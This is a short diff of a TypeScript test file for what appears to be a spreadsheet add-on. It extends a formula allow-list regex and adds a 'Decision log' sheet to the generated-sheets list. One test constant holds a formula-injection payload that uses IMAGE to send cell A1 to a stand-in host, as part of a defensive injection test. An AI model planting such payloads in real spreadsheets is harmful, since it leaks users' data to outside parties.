@@ -31,7 +31,7 @@ const BREAKOUT_NAME = '"),IMAGE("https://x.example/?"&A1),("';
  * Overview's totals. Any other formula in a generated cell came from something typed.
  */
 const ADDON_FORMULA =
-  /^=(HYPERLINK\("#gid=\d+(&range=A\d+)?",|HYPERLINK\("https:\/\/docs\.google\.com\/spreadsheets\/d\/[\w-]+[^"]*","Shared view"\)$|ROWS\(CTOR_|COUNTA\(CTOR_|"\d+\|"&CTOR_\d+_name(&CHAR\(30\)&CTOR_\d+_status)?$|CTOR_\d+_\w+$|CTOR_CapacityHours$|COUNTIFS\(CTOR_|IF\(COUNT\(CTOR_|IF\(E\d+="","",DAYS\(TODAY\(\),E\d+\)\)$|SUM\(D\d+:D\d+\)$|F\d+-D\d+$)/;
+  /^=(HYPERLINK\("#gid=\d+(&range=A\d+)?",|HYPERLINK\("https:\/\/docs\.google\.com\/spreadsheets\/d\/[\w-]+[^"]*","Shared view"\)$|ROWS\(CTOR_|COUNTA\(CTOR_|"\d+\|"&CTOR_\d+_name(&CHAR\(30\)&CTOR_\d+_status)?$|CTOR_\d+_\w+$|CTOR_CapacityHours$|COUNTIFS\(CTOR_|IF\(COUNT\(CTOR_|IF\(E\d+="","",DAYS\(TODAY\(\),E\d+\)\)$|SUM\(D\d+:D\d+\)$|F\d+-D\d+$|IFERROR\(INDEX\(CTOR_DecisionLog_Median,MATCH\("\d+",CTOR_DecisionLog_Client,0\)\),""\)$)/;
 
 function formulasOf(file: Workbook, sheet: SheetData): string[] {
   const out: string[] = [];
@@ -50,7 +50,7 @@ function textsOf(file: Workbook, sheet: SheetData): unknown[] {
   return out;
 }
 
-const GENERATED = ['Priorities', 'Overview', 'Weekly Plan', 'Plan History'];
+const GENERATED = ['Priorities', 'Overview', 'Weekly Plan', 'Plan History', 'Decision log'];
 
 /** Acme (shared with its founder) and Beacon, each with every payload typed into its tab. */
 const registry = restorable(() => {
